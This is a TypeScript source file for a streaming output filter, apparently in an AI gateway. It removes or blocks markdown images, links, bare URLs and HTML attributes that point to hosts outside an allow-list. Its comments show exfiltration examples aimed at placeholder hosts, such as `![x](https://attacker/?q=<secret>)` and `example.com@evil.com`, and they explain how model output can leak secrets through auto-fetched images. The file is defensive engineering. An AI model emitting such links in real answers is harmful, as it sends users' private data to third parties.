/**
 * Exfiltration links in output: markdown images `![alt](url)` and links `[text](url)`, reference
 * definitions `[id]: url`, autolinks `<https://…>`, bare `http(s)://` URLs, bare `www.` URLs (GFM's
 * and linkify's extended autolinks) and HTML tags with URL attributes (`<img src>`, `<a href>`,
 * srcset, poster, style="…url(…)"…) whose URL points to a host that is not on the route's
 * allow-list. A renderer fetches an image by itself, so
 * `![x](https://attacker/?q=<secret>)` sends the secret out as soon as the answer is shown; a
 * link does it on one click. Bare hosts followed by a path, query, fragment or port
 * (`attacker.com/?q=…`, linkify's fuzzy links) count when the host ends in an IANA top-level
 * domain and is not inside code (`hostPathAt`, `codeAt`).
 *
 * The decision is made on the URL as a browser sees it: HTML entities are decoded (the `entities`
 * package), markdown backslash escapes removed, then the WHATWG URL parser (node's `URL`) resolves
 * userinfo (`https://example.com@evil.com` → evil.com), IDN (→ punycode), percent-encoded and
 * numeric hosts, backslashes, protocol-relative `//host`. A URL without a scheme that starts with
 * `www.` is judged as `http://www.…`: autolinkers make it a link, and chat UIs often "fix" such a
 * destination the same way. Allowed: http(s) URLs whose host is an allowed host or one of its
 * subdomains, and relative URLs (they resolve to the client's own page). Everything else —
 * other hosts, `data:`, `javascript:`, unparseable URLs — is removed (`strip`: an image or tag
 * vanishes, a link keeps its text, a bare URL becomes `[link removed]`) or withholds the response
 * (`block`).
 *
 * The parser is a left-to-right machine over the raw text, hand-written because no markdown
 * library parses a stream incrementally with a bounded hold-back. Text is released at once up to
 * the next candidate character (`[`, `]`, `!`, `<`, `h`/`H`, a `.` right after a word-initial
 * `www`, a `/ ? # :` after a host, both found by looking back at text already released, and
 * backticks and tildes, which open code); from a candidate on, it is held only
 * until the construct there is decided (closed, shown not to be one, or past its cap). So the
 * output is the same for every split of the text into chunks (property-tested), and ordinary
 * prose waits for nothing. Caps bound the hold-back: link text 500 characters, a destination or
 * bare URL 2048, an HTML tag 1024. A construct whose URL runs past its cap counts as disallowed
 * unless its host is allowed (fail closed).
 */
import { createRequire } from 'node:module';
import { decodeHTML, decodeHTMLAttribute } from 'entities';

/**
 * IANA's top-level domains (the `tlds` package, as linkifyjs uses): what makes `word.word/…` a
 * host that an autolinker turns into a link. Required, not imported: the package is one JSON array.
 */
const TLDS: ReadonlySet<string> = new Set(createRequire(import.meta.url)('tlds') as string[]);

/** What was found: `destination` is an orphan `](url)` whose `[` did not start a link (e.g. its text ran past the cap). */
export type LinkType = 'image' | 'link' | 'reference' | 'url' | 'destination';
export type LinkAction = 'strip' | 'block';

export interface LinkRules {
  allow: readonly string[];
  action: LinkAction;
  /** Filter images (markdown images, HTML tags that fetch by themselves). */
  images: boolean;
  /** Filter links (markdown links, `<a href>`, autolinks, bare URLs). */
  links: boolean;
}

const TEXT_CAP = 500;
const URL_CAP = 2048;
const TAG_CAP = 1024;
/**
 * A held construct longer than this is parsed again only once the text held has grown by an
 * eighth: the decision is the same (the machine is deterministic on the text), but a long
 * undecided construct costs O(its length) a few times instead of once per event.
 */
const REPARSE_FROM = 256;
/** Brackets nested deeper than this inside link text end the candidate (bounds `[[[[…` to linear work). */
const MAX_NESTING = 16;
const PLACEHOLDER = '[link removed]';
const BASE_HOST = 'relative.modelgate.invalid';
/** Resolved against both: `https:\\evil.com` is same-page on an https page, evil.com on an http one. */
const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
/** What a tag that ran past its cap points to: never allowed. */
const UNKNOWN = 'data:,';

const normHost = (h: string): string => (h.endsWith('.') ? h.slice(0, -1) : h);
/** `www.` after what the URL parser ignores (leading C0 controls and spaces, tabs and newlines anywhere). */
const WWW = /^[\x00-\x20]*w[\t\n\r]*w[\t\n\r]*w[\t\n\r]*\./i;
/** A URL as written, made absolute when it has no scheme but starts with `www.`. */
const withScheme = (url: string): string => (WWW.test(url) ? `http://${url.replace(/^[\x00-\x20]+/, '')}` : url);

/** The compiled allow-list: is a URL (as written in the text, decoded) safe to show? */
export class LinkPolicy {
  private readonly hosts: string[];
  constructor(readonly rules: LinkRules) {
    this.hosts = rules.allow.map((h) => normHost(new URL(`http://${h}/`).hostname));
  }

  /** `url` decoded (entities, escapes); a URL cut at a cap is judged by its host. */
  allowed(url: string): boolean {
    const abs = withScheme(url);
    return BASES.every((base) => {
      let u: URL;
      try {
        u = new URL(abs, base);
      } catch {
        return false;
      }
      if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
      const host = normHost(u.hostname);
      if (host === BASE_HOST) return true; // relative: the client's own page
      return this.hosts.some((h) => host === h || host.endsWith(`.${h}`));
    });
  }

  enabled(type: LinkType): boolean {
    if (type === 'image') return this.rules.images;
    if (type === 'link' || type === 'url') return this.rules.links;
    return this.rules.images || this.rules.links;
  }
}

/** A decided construct at a candidate position. */
interface Hit {
  end: number;
  type: LinkType;
  /** Decoded URLs it points to (all must be allowed). */
  urls: string[];
  /** Link text to keep (filtered) when a link is stripped: [start, end) in the text. */
  inner?: [number, number];
  /** Text replacing the construct when stripped (besides the kept inner text). */
  stripped: string;
}
type Step = Hit | 'none' | 'more';

const isSpace = (c: number): boolean => c === 32 || c === 9 || c === 10 || c === 13 || c === 12;
const isAlnum = (c: number): boolean => (c >= 48 && c <= 57) || ((c | 32) >= 97 && (c | 32) <= 122);
const unescapeMd = (s: string): string => decodeHTML(s.replace(/\\([!-/:-@[-`{-~])/g, '$1'));

/** `[`'s matching `]` at or after i (balanced, escapes honoured), 'none' or 'more'. */
function closeBracket(t: string, i: number, final: boolean): number | 'none' | 'more' {
  let depth = 0;
  const cap = Math.min(t.length, i + TEXT_CAP);
  for (let j = i; j < cap; j++) {
    const c = t.charCodeAt(j);
    if (c === 92 /* \ */) { j++; continue; }
    if (c === 91) { if (++depth > MAX_NESTING) return 'none'; } // absurd nesting: no link (its `](url)` is still an orphan destination)
    else if (c === 93) { if (depth === 0) return j; depth--; }
    else if (c === 10 && t.charCodeAt(j + 1) === 10) return 'none'; // a blank line ends a paragraph
  }
  return cap < i + TEXT_CAP && !final ? 'more' : 'none';
}

/**
 * A link destination and optional title after `(` at p, through the closing `)`:
 * [end (after ')'), raw destination], or 'none'/'more'. Past the cap: [cap, the destination so far].
 */
function destination(t: string, p: number, final: boolean): [number, string] | 'none' | 'more' {
  const more = (): 'none' | 'more' => (final ? 'none' : 'more');
  let j = p;
  while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
  if (t.charCodeAt(j) === 10) j++;
  while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
  if (j >= t.length) return more();
  let dest: string;
  const cap = p + URL_CAP;
  if (t.charCodeAt(j) === 60 /* < */) {
    const lim = Math.min(t.length, cap);
    let e = j + 1;
    for (; e < lim && t.charCodeAt(e) !== 62; e++) {
      const ch = t.charCodeAt(e);
      if (ch === 60 || ch === 10) return 'none';
      if (ch === 92) e++;
    }
    if (e >= lim) return lim === cap ? [cap, t.slice(j + 1, cap)] : more();
    dest = t.slice(j + 1, e);
    j = e + 1;
  } else {
    const s = j;
    let depth = 0;
    for (;; j++) {
      if (j >= cap) return [cap, t.slice(s, cap)];
      if (j >= t.length) return more();
      const c = t.charCodeAt(j);
      if (c === 92) { j++; continue; }
      if (c <= 32) break;
      if (c === 40) depth++;
      else if (c === 41) { if (depth === 0) break; depth--; }
    }
    dest = t.slice(s, j);
  }
  while (j < t.length && isSpace(t.charCodeAt(j))) j++;
  if (j >= t.length) return more();
  const q = t.charCodeAt(j);
  if (q === 34 || q === 39 || q === 40) { // a title: "…", '…' or (…)
    const close = q === 40 ? 41 : q;
    let k = j + 1;
    for (; k < t.length && k < cap; k++) {
      const c = t.charCodeAt(k);
      if (c === 92) { k++; continue; }
      if (c === close) break;
    }
    if (k >= cap) return 'none';
    if (k >= t.length) return more();
    j = k + 1;
    while (j < t.length && isSpace(t.charCodeAt(j))) j++;
    if (j >= t.length) return more();
  }
  return t.charCodeAt(j) === 41 ? [j + 1, dest] : 'none';
}

/** `[…](…)`, `![…](…)` or `[id]: url` at i (t[i] is '[' or '!'). */
function markdownAt(t: string, i: number, final: boolean): Step {
  const image = t.charCodeAt(i) === 33;
  if (image && i + 1 >= t.length) return final ? 'none' : 'more';
  if (image && t.charCodeAt(i + 1) !== 91) return 'none';
  const open = image ? i + 2 : i + 1;
  const close = closeBracket(t, open, final);
  if (typeof close !== 'number') return close;
  const next = close + 1;
  if (next >= t.length) return final ? 'none' : 'more';
  const c = t.charCodeAt(next);
  if (c === 40 /* ( */) {
    const d = destination(t, next + 1, final);
    if (typeof d === 'string') return d;
    const hit: Hit = { end: d[0], type: image ? 'image' : 'link', urls: [unescapeMd(d[1])], stripped: '' };
    if (!image) hit.inner = [open, close];
    return hit;
  }
  if (c === 58 /* : */ && !image) {
    let j = next + 1;
    while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
    if (t.charCodeAt(j) === 10) j++;
    while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
    const s = j;
    while (j < t.length && j < s + URL_CAP && t.charCodeAt(j) > 32) j++;
    if (j >= t.length && !final) return 'more';
    if (j === s) return 'none';
    let dest = t.slice(s, j);
    if (dest.startsWith('<') && dest.endsWith('>')) dest = dest.slice(1, -1);
    return { end: j, type: 'reference', urls: [unescapeMd(dest)], stripped: '' };
  }
  return 'none';
}

/** An orphan `](url)` (its `[` was not a link start, e.g. past the text cap): the destination. */
function orphanAt(t: string, i: number, final: boolean): Step {
  if (i + 1 >= t.length) return final ? 'none' : 'more';
  if (t.charCodeAt(i + 1) !== 40) return 'none';
  const d = destination(t, i + 2, final);
  if (typeof d === 'string') return d;
  return { end: d[0], type: 'destination', urls: [unescapeMd(d[1])], stripped: ']' };
}

const AUTOLINK = /^<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>/;
const SCHEME_START = /^<[A-Za-z][A-Za-z0-9+.-]{0,31}(?::[^\s<>]*)?$/;
/** Attributes whose value is fetched or followed. */
const URL_ATTRS = new Set(['src', 'href', 'xlink:href', 'srcset', 'poster', 'background', 'data', 'action', 'formaction', 'lowsrc', 'dynsrc', 'cite', 'longdesc', 'ping', 'imagesrcset']);
const LINK_TAGS = new Set(['a', 'area', 'form', 'button', 'input', 'blockquote', 'q', 'del', 'ins']);
const CSS_URL = /url\(\s*(['"]?)([^'")]*)\1\s*\)|@import\s+(['"])([^'"]*)\3/gi;

/** The URLs an attribute carries (srcset lists several, style has url(…)). */
function attrUrls(name: string, value: string, out: string[]): void {
  const v = decodeHTMLAttribute(value);
  if (name === 'style') {
    for (const m of v.matchAll(CSS_URL)) out.push(m[2] ?? m[4] ?? '');
  } else if (name.endsWith('srcset')) {
    for (const part of v.split(',')) { const u = part.trim().split(/\s+/)[0]; if (u) out.push(u); }
  } else if (name === 'ping') {
    for (const u of v.trim().split(/\s+/)) if (u) out.push(u);
  } else if (URL_ATTRS.has(name)) {
    out.push(v.trim());
  }
}

/** `<scheme:…>` autolink or an HTML start tag at i. */
function angleAt(t: string, i: number, final: boolean): Step {
  const head = t.slice(i, i + URL_CAP + 2);
  const auto = AUTOLINK.exec(head);
  if (auto) return { end: i + auto[0].length, type: 'link', urls: [decodeHTML(auto[1] ?? '')], stripped: PLACEHOLDER };
  if (SCHEME_START.test(head) && head.includes(':')) {
    if (head.length >= URL_CAP + 2) return { end: i + head.length, type: 'link', urls: [decodeHTML(head.slice(1))], stripped: PLACEHOLDER };
    if (!final) return 'more';
  }
  let j = i + 1;
  if (j >= t.length) return final ? 'none' : 'more';
  if (!isAlnum(t.charCodeAt(j)) || t.charCodeAt(j) <= 57) return 'none';
  while (j < t.length && (isAlnum(t.charCodeAt(j)) || t.charCodeAt(j) === 45 || t.charCodeAt(j) === 58)) j++;
  if (j >= t.length) return final ? 'none' : 'more';
  const name = t.slice(i + 1, j).toLowerCase();
  const c = t.charCodeAt(j);
  if (!isSpace(c) && c !== 47 && c !== 62) return 'none';
  const urls: string[] = [];
  const cap = i + TAG_CAP;
  for (;;) {
    while (j < t.length && (isSpace(t.charCodeAt(j)) || t.charCodeAt(j) === 47)) j++;
    if (j >= cap) break;
    if (j >= t.length) return final ? 'none' : 'more';
    if (t.charCodeAt(j) === 62) {
      return { end: j + 1, type: LINK_TAGS.has(name) ? 'link' : 'image', urls, stripped: '' };
    }
    const ns = j;
    while (j < t.length && j < cap && !/[\s"'>/=]/.test(t[j] ?? '')) j++;
    const attr = t.slice(ns, j).toLowerCase();
    if (attr === '' && t.charCodeAt(j) !== 61) { j++; continue; } // a stray quote
    while (j < t.length && isSpace(t.charCodeAt(j))) j++;
    if (j < t.length && t.charCodeAt(j) === 61 /* = */) {
      j++;
      while (j < t.length && isSpace(t.charCodeAt(j))) j++;
      if (j >= t.length && j < cap) return final ? 'none' : 'more';
      const q = t.charCodeAt(j);
      let value: string;
      if (q === 34 || q === 39) {
        const e = t.indexOf(q === 34 ? '"' : "'", j + 1);
        if (e === -1 || e >= cap) {
          if (t.length < cap) return final ? 'none' : 'more';
          return { end: cap, type: LINK_TAGS.has(name) ? 'link' : 'image', urls: [UNKNOWN], stripped: '' };
        }
        value = t.slice(j + 1, e);
        j = e + 1;
      } else {
        const s = j;
        while (j < t.length && j < cap && !isSpace(t.charCodeAt(j)) && t.charCodeAt(j) !== 62) j++;
        value = t.slice(s, j);
      }
      attrUrls(attr, value, urls);
    }
  }
  // Past the cap without '>': fail closed, the tag so far is dropped.
  return { end: cap, type: LINK_TAGS.has(name) ? 'link' : 'image', urls: [UNKNOWN], stripped: '' };
}

const TRAILING = /[?!.,:*_~'";]+$/;
/** Characters that end a bare URL besides white space: '<', '>', '"', '`' (a URL inside a JSON string of tool-call arguments ends at its quote). */
const URL_STOP = new Set([60, 62, 34, 96]);

/**
 * A bare URL held from s whose prefix (scheme, or the `.` of `www.`) ends at p: it runs to white
 * space or a stop character, less trailing punctuation and unbalanced ')'; 'none' when nothing
 * is left after the prefix. `before` is what precedes s in the URL (`www` already released).
 */
function bareUrl(t: string, s: number, p: number, before: string, stripped: string, final: boolean): Step {
  const cap = s + URL_CAP;
  let j = p;
  while (j < t.length && j < cap && !isSpace(t.charCodeAt(j)) && !URL_STOP.has(t.charCodeAt(j))) j++;
  if (j >= cap) return { end: cap, type: 'url', urls: [decodeHTML(before + t.slice(s, cap))], stripped };
  if (j >= t.length && !final) return 'more';
  let url = t.slice(s, j).replace(TRAILING, '');
  // An unbalanced ')' at the end closes surrounding parentheses (GFM).
  while (url.endsWith(')') && url.split(')').length > url.split('(').length) url = url.slice(0, -1).replace(TRAILING, '');
  if (s + url.length <= p) return 'none';
  return { end: s + url.length, type: 'url', urls: [decodeHTML(before + url)], stripped };
}

/** A bare `http(s)://` URL at i (t[i] is 'h' or 'H' after a non-alphanumeric). */
function bareAt(t: string, i: number, final: boolean): Step {
  if (i + 1 < t.length && (t.charCodeAt(i + 1) | 32) !== 116 /* t */) return 'none'; // most words starting with h
  const head = t.slice(i, i + 8).toLowerCase();
  const scheme = head.startsWith('https://') ? 8 : head.startsWith('http://') ? 7 : 0;
  if (scheme === 0) return !final && ('https://'.startsWith(head) || 'http://'.startsWith(head)) ? 'more' : 'none';
  return bareUrl(t, i, i + scheme, '', PLACEHOLDER, final);
}

/**
 * A bare `www.` URL (GFM's extended www autolink, linkify's too): t[i] is the `.` after a
 * word-initial `www` (any case), which was released as ordinary text — so no word is held for
 * being a possible `www`. The `www` stays, the rest becomes `.[link removed]`.
 */
function wwwAt(t: string, i: number, final: boolean): Step {
  return bareUrl(t, i, i + 1, 'www', `.${PLACEHOLDER}`, final);
}

const CANDIDATE = /[[\]!<hH./?#:`~]/g;
const isW = (c: number): boolean => (c | 32) === 119;
/**
 * What a word-initial `www` may follow: not a letter or digit, and not `@ / \ . - :`, which make
 * it part of an e-mail address, a path or a longer host name (`jane@www.acme.org`,
 * `sites-available/www.acme.org.conf`) — neither GFM nor linkify starts a link there.
 */
const wwwBoundary = (c: number): boolean => !isAlnum(c) && c !== 64 && c !== 47 && c !== 92 && c !== 46 && c !== 45 && c !== 58;

/** Raw characters a candidate may look back at: a host of up to 253 characters and its boundary. */
const LOOKBACK = 256;
const LETTER_OR_DIGIT = /[\p{L}\p{N}\p{M}]/u;
/** A letter or digit of a host label, IDN included (one UTF-16 unit: astral characters end a host). */
const isLabelChar = (c: number): boolean => (c < 128 ? isAlnum(c) : c < 0xd800 || c > 0xdfff ? LETTER_OR_DIGIT.test(String.fromCharCode(c)) : false);
const isHostChar = (c: number): boolean => c === 45 || c === 46 || isLabelChar(c);
const HOST = /^[\p{L}\p{N}](?:[\p{L}\p{N}\p{M}-]*[\p{L}\p{N}\p{M}])?(?:\.[\p{L}\p{N}](?:[\p{L}\p{N}\p{M}-]*[\p{L}\p{N}\p{M}])?)+$/u;
const isDigit = (c: number): boolean => c >= 48 && c <= 57;
const IPV4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;

/**
 * The filter over one text: push chunks, end; same output for every split. Counts what it
 * found (disallowed, filtered types only) by type.
 */
export class LinkStream {
  private buf = '';
  /** Length of `buf` when it was last parsed and found undecided. */
  private parsed = 0;
  /**
   * Raw text before `buf`, already released (at least its last LOOKBACK characters, or all there
   * was after a newline standing for the start): what a candidate looks back at (bare URL
   * boundary, `www`, the host before a path, a line start).
   */
  private tail = '\n';
  /** The same for the output released (what a renderer sees: a stripped construct may join two words). */
  private outTail = '\n';
  /** Inside a fenced code block (top level): its fence character and length. */
  private fence: { ch: number; len: number } | null = null;
  /** An inline code span runs in `buf` up to here (exclusive); -1: none. */
  private codeUntil = -1;
  blocked = false;

  constructor(private readonly policy: LinkPolicy, readonly counts: Map<LinkType, number> = new Map()) {}

  /** Feed raw text; the filtered text final now, or null once the response must be withheld. */
  push(chunk: string): string | null {
    if (this.blocked) return null;
    this.buf += chunk;
    if (this.parsed >= REPARSE_FROM && this.buf.length < this.parsed + (this.parsed >> 3)) return '';
    return this.run(false);
  }

  /** End of the text: everything still held, filtered (or null: withhold). */
  end(): string | null {
    if (this.blocked) return null;
    return this.run(true);
  }

  /** Characters held back now. */
  get held(): number {
    return this.buf.length;
  }

  private run(final: boolean): string | null {
    const t = this.buf;
    let out = '';
    let i = 0;
    while (i < t.length) {
      CANDIDATE.lastIndex = i;
      const m = CANDIDATE.exec(t);
      if (m === null) { out += t.slice(i); i = t.length; break; }
      const c = m.index;
      out += t.slice(i, c);
      const step = this.stepAt(t, c, final, out);
      if (step === 'more') {
        this.tail = c >= LOOKBACK ? t.slice(c - LOOKBACK, c) : (this.tail + t.slice(0, c)).slice(-LOOKBACK);
        this.outTail = out.length >= LOOKBACK ? out : (this.outTail + out).slice(-LOOKBACK);
        this.buf = t.slice(c);
        this.parsed = this.buf.length;
        if (this.codeUntil >= 0) this.codeUntil -= c;
        return out;
      }
      if (step === 'none') { out += t[c]; i = c + 1; continue; }
      const piece = this.decide(t, c, step);
      if (piece === null) return null;
      out += piece;
      i = step.end;
    }
    // The text itself when long enough (a reference, no copy: before() reads only its end).
    if (t.length >= LOOKBACK) this.tail = t;
    else if (t.length > 0) this.tail = (this.tail.length > 2 * LOOKBACK ? this.tail.slice(-LOOKBACK) : this.tail) + t;
    if (out.length >= LOOKBACK) this.outTail = out;
    else if (out.length > 0) this.outTail = (this.outTail.length > 2 * LOOKBACK ? this.outTail.slice(-LOOKBACK) : this.outTail) + out;
    this.buf = '';
    this.parsed = 0;
    this.codeUntil = -1; // a span found in `t` ended within it
    return out;
  }

  /** `out`: the output of this run so far (everything before t[c], decided). */
  private stepAt(t: string, c: number, final: boolean, out: string): Step {
    switch (t.charCodeAt(c)) {
      case 91: case 33: return markdownAt(t, c, final);
      case 93: return orphanAt(t, c, final);
      case 60: return angleAt(t, c, final);
      case 46: return isW(this.before(t, c, 1)) && isW(this.before(t, c, 2)) && isW(this.before(t, c, 3)) && wwwBoundary(this.before(t, c, 4)) ? wwwAt(t, c, final) : 'none';
      case 47: case 63: case 35: case 58: return this.hostPathAt(t, c, final, out);
      case 96: case 126: return this.codeAt(t, c, final);
      default: return isAlnum(this.before(t, c, 1)) ? 'none' : bareAt(t, c, final);
    }
  }

  /**
   * A bare host without a scheme, then a path, query, fragment or port: `attacker.com/?q=…`.
   * linkify-it (markdown-it's linkify) and linkifyjs turn such text into a link, GFM does not.
   * t[c] is the `/`, `?`, `#` or `:` after the host, which was released as ordinary text — so no
   * word is ever held for possibly being a host; the decision looks back at it. Only a host
   * ending in a top-level domain counts (so `and/or`, `v1.2/3`, `README.md` stay), after a
   * boundary that is not `@ / \\ :` (an e-mail address, a path, a URL already judged). The host
   * stays, the rest becomes `[link removed]`. Not inside code (fenced or inline): renderers
   * link nothing there, and code is full of `github.com/x/y` and `obj.top/2`.
   */
  private hostPathAt(t: string, c: number, final: boolean, out: string): Step {
    // The host is read from the output before t[c], not the raw text: what a renderer links is
    // what it is shown (`attacker![x](…).com/…` shows `attacker.com/…` once the image is gone).
    const back = (k: number): number => (k <= out.length ? out.charCodeAt(out.length - k) : this.outBefore(k - out.length));
    if (this.fence !== null || c < this.codeUntil) return 'none';
    if (t.charCodeAt(c) === 47 && !isLabelChar(back(1))) return this.protocolRelativeAt(t, c, final, back(1));
    if (!isLabelChar(back(1))) return 'none';
    let k = 1;
    let tldLen = -1;
    for (; k <= LOOKBACK; k++) {
      const ch = back(k);
      if (!isHostChar(ch)) break;
      if (ch === 46 && tldLen < 0) tldLen = k - 1;
    }
    if (k > 254 || tldLen < 1) return 'none';
    const b = back(k);
    if (b === 64 || b === 47 || b === 92 || b === 58) return 'none';
    let host = '';
    for (let j = k - 1; j >= 1; j--) host += String.fromCharCode(back(j));
    if (!HOST.test(host) || !TLDS.has(host.slice(host.length - tldLen).toLowerCase())) return 'none';
    if (t.charCodeAt(c) === 58) { // a port: digits must follow
      if (c + 1 >= t.length) return final ? 'none' : 'more';
      if (!isDigit(t.charCodeAt(c + 1))) return 'none';
    }
    return bareUrl(t, c, c + 1, `http://${host}`, PLACEHOLDER, final);
  }

  /**
   * `//host/…` in prose, after white space or punctuation other than `: / \\ @ - .` and not a
   * letter or digit: linkify-it (markdown-it) links protocol-relative URLs. The host must end in
   * a top-level domain or be an IPv4 address (`// comment`, `//TODO`, `//V1.7` stay). Removed
   * whole: nothing of it was released.
   */
  private protocolRelativeAt(t: string, c: number, final: boolean, b: number): Step {
    if (b === 58 || b === 47 || b === 92 || b === 64 || b === 45 || b === 46) return 'none';
    if (c + 1 >= t.length) return final ? 'none' : 'more';
    if (t.charCodeAt(c + 1) !== 47) return 'none';
    let j = c + 2;
    while (j < t.length && j < c + 256 && isHostChar(t.charCodeAt(j))) j++;
    if (j >= t.length && !final && j < c + 256) return 'more';
    const host = t.slice(c + 2, j).replace(/\.$/, '');
    if (!IPV4.test(host) && !(HOST.test(host) && TLDS.has(host.slice(host.lastIndexOf('.') + 1).toLowerCase()))) return 'none';
    return bareUrl(t, c, c + 2, '', PLACEHOLDER, final);
  }

  /**
   * A backtick or tilde run: opens or closes a fenced code block at a line start (up to three
   * spaces in; top level only — a fence in a list or quote is not seen, so the text stays
   * filtered), or starts an inline code span when a closing run of the same length follows
   * before a blank line (held until it is seen, at most TEXT_CAP characters). Code only turns
   * off the host rule above; every other construct is still filtered in it (fail closed).
   */
  private codeAt(t: string, c: number, final: boolean): Step {
    const ch = t.charCodeAt(c);
    let e = c + 1;
    while (e < t.length && t.charCodeAt(e) === ch) e++;
    if (e >= t.length && !final) return 'more';
    const pass: Hit = { end: e, type: 'url', urls: [], stripped: '' };
    if (c < this.codeUntil) return pass; // in a span, or its closing run
    const run = e - c;
    if (run >= 3 && this.atLineStart(t, c)) {
      // The rest of the line decides: a closing fence has only blanks after it; an opening
      // backtick fence has no backtick in its info string.
      let j = e;
      const cap = Math.min(t.length, e + TAG_CAP);
      while (j < cap && t.charCodeAt(j) !== 10 && t.charCodeAt(j) !== 13) j++;
      if (j >= t.length && !final) return 'more';
      const rest = t.slice(e, j);
      if (j >= cap && cap < t.length) return pass; // an absurd line: not a fence (stays filtered)
      if (this.fence !== null) {
        if (ch === this.fence.ch && run >= this.fence.len && /^[ \t]*$/.test(rest)) this.fence = null;
        return pass;
      }
      if (ch === 126 || !rest.includes('`')) { this.fence = { ch, len: run }; return pass; }
    }
    if (ch !== 96 || this.fence !== null) return pass;
    // An inline span: the same run closes it, before a blank line.
    const cap = Math.min(t.length, c + TEXT_CAP);
    let j = e;
    while (j < cap) {
      const d = t.charCodeAt(j);
      if (d === 96) {
        let f = j + 1;
        while (f < t.length && t.charCodeAt(f) === 96) f++;
        if (f >= t.length && !final && f < c + TEXT_CAP) return 'more';
        if (f - j === run) { this.codeUntil = f; return pass; }
        j = f;
        continue;
      }
      if (d === 10 || d === 13) { // a blank line next ends the paragraph: no span
        let f = j + 1;
        if (d === 13 && t.charCodeAt(f) === 10) f++;
        while (f < cap && (t.charCodeAt(f) === 32 || t.charCodeAt(f) === 9)) f++;
        if (f >= t.length && !final && f < c + TEXT_CAP) return 'more';
        const g = t.charCodeAt(f);
        if (g === 10 || g === 13) return pass;
        j = f;
        continue;
      }
      j++;
    }
    return j >= t.length && !final && j < c + TEXT_CAP ? 'more' : pass;
  }

  /** t[c] starts a line (after up to three spaces). */
  private atLineStart(t: string, c: number): boolean {
    for (let k = 1; k <= 4; k++) {
      const b = this.before(t, c, k);
      if (b === 10 || b === 13) return true;
      if (b !== 32) return false;
    }
    return false;
  }

  /** The output character k places before what this run has released (a space before the start). */
  private outBefore(k: number): number {
    const j = this.outTail.length - k;
    return j >= 0 ? this.outTail.charCodeAt(j) : 32;
  }

  /** The raw character k places before t[c], released or not (a space before the text's start). */
  private before(t: string, c: number, k: number): number {
    if (c >= k) return t.charCodeAt(c - k);
    const j = this.tail.length + c - k;
    return j >= 0 ? this.tail.charCodeAt(j) : 32;
  }

  /** The text for a decided construct: as written (inner link text filtered) or stripped. */
  private decide(t: string, c: number, hit: Hit): string | null {
    const bad = this.policy.enabled(hit.type) && (hit.urls.some((u) => !this.policy.allowed(u)));
    let inner = '';
    if (hit.inner !== undefined) {
      const sub = new LinkStream(this.policy, this.counts);
      sub.tail = '[';
      sub.outTail = '[';
      const a = sub.push(t.slice(hit.inner[0], hit.inner[1]));
      const b = a === null ? null : sub.end();
      if (a === null || b === null) { this.blocked = true; return null; }
      inner = a + b;
    }
    if (!bad) return hit.inner === undefined ? t.slice(c, hit.end) : t.slice(c, hit.inner[0]) + inner + t.slice(hit.inner[1], hit.end);
    this.counts.set(hit.type, (this.counts.get(hit.type) ?? 0) + 1);
    if (this.policy.rules.action === 'block') { this.blocked = true; return null; }
    return inner + hit.stripped;
  }
}

/** A whole text filtered at once (a JSON field). */
export function filterLinks(text: string, policy: LinkPolicy, counts?: Map<LinkType, number>): string | null {
  const s = new LinkStream(policy, counts);
  const a = s.push(text);
  const b = a === null ? null : s.end();
  return a === null || b === null ? null : a + b;
}
